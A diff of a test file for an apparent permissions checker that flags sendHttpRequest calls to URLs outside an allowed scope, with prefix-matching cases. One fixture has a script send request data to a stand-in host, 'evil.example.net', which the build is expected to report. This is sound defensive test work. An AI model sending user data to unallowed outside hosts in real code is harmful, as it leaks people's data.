@@ -4,6 +4,7 @@ import {
   checkApiUses,
   checkScope,
   permissionsFor,
+  prefixCanMatch,
   urlAllowed,
 } from '../../build/permissions/derive';
 import { grantsFromPermissions, grantsFromScope } from '../../build/permissions/grants';
@@ -192,6 +193,32 @@ describe('scope errors', () => {
           "scope.sendHttp.urls entry 'https://a.example.com/v1' must be an http(s) URL prefix ending with '/' or '*' (e.g. 'https://api.example.com/')",
       },
     ]);
+  });
+});
+
+describe('URLs through consts and +', () => {
+  const code = [
+    "const sendHttpRequest = require('sendHttpRequest');",
+    "const BASE = 'https://evil.example.net/';",
+    'sendHttpRequest(BASE + data.id);',
+    'sendHttpRequest(data.url);',
+  ].join('\n');
+  const scope = { sendHttp: { urls: ['https://api.example.com/'] } };
+
+  test('the build reports a constant prefix outside scope.sendHttp, and nothing it cannot prove', () => {
+    const found = checkApiUses(findApiUses(parseScript(code)), grantsFromScope(scope), 'build');
+    expect(found.map((p) => `${p.severity}: ${p.message}`)).toEqual([
+      "error: sendHttpRequest('https://evil.example.net/' + ...) calls a URL that send_http does not allow; add a prefix of it to scope.sendHttp.urls (e.g. 'https://evil.example.net/')",
+    ]);
+  });
+
+  test.each([
+    ['https://api.exa', 'https://api.example.com/*', true],
+    ['https://eu.api.', 'https://*.example.com/*', true],
+    ['https://api.example.com/v1/', 'https://api.example.com/', true],
+    ['https://api.example.net/', 'https://api.example.com/*', false],
+  ])('prefixCanMatch(%s, %s) → %s', (prefix, pattern, expected) => {
+    expect(prefixCanMatch(prefix, pattern)).toBe(expected);
   });
 });
 
